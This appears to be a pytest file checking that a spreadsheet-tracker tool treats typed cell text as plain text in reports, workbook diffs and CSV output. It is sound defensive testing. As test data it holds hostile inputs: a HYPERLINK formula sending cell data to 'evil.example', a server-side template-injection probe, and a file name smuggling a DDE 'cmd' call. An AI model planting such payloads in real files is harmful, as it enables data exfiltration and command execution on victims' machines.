"""What a person typed into a cell stays a text wherever it comes out again."""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from benchmarks.trackers import STRINGS, tracker
from exectrack_xl.actions.batch.manifest import shielded
from exectrack_xl.actions.documents import Order, make_report
from exectrack_xl.cli import main
from exectrack_xl.package import read_parts, write_parts

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'
TEMPLATE = "{{ 7*7 }}{% for x in ().__class__.__mro__ %}X{% endfor %}"


def _with_title(path: Path, title: str) -> Path:
    """A tracker in which every risk, issue and milestone is called so."""
    parts = read_parts(tracker(1))
    written = title.replace("&", "&amp;").encode()
    parts[STRINGS] = re.sub(rb"<t>Title of row[^<]*</t>", lambda _: b"<t>" + written + b"</t>", parts[STRINGS])
    assert written in parts[STRINGS]
    path.write_bytes(write_parts(parts))
    return path


def test_template_language_in_a_cell_is_shown_and_not_executed(tmp_path: Path) -> None:
    path = _with_title(tmp_path / "evil.xlsx", TEMPLATE)
    made = make_report(Order(path, date(2026, 10, 31), output=tmp_path / "made.docx", remember=False)).path
    text = "".join(re.findall(r"<w:t[^>]*>([^<]*)<", read_parts(made.read_bytes())["word/document.xml"].decode()))
    assert "{{ 7*7 }}{% for x" in text
    assert "49XX" not in text


def test_a_formula_typed_as_text_is_text_in_an_exported_workbook(tmp_path: Path, capsys) -> None:
    before, after = _with_title(tmp_path / "a.xlsx", "Quay"), _with_title(tmp_path / "b.xlsx", FORMULA)
    assert main(["diff", str(before), str(after), "--output", str(tmp_path / "d.xlsx")]) in (0, 1)
    book = openpyxl.load_workbook(tmp_path / "d.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    book.close()
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_a_formula_is_shielded_in_a_csv_file(start: str) -> None:
    assert shielded(start) == f"'{start}"


def test_the_work_list_of_a_run_holds_no_formula(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "t"
    folder.mkdir()
    (folder / "=cmd|' calc'!A1.xlsx").write_bytes(b"no workbook")
    assert main(["batch", str(folder), "--out", str(tmp_path / "out"), "--kind", "report"]) == 1
    rows = list(csv.reader((tmp_path / "out" / "findings.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
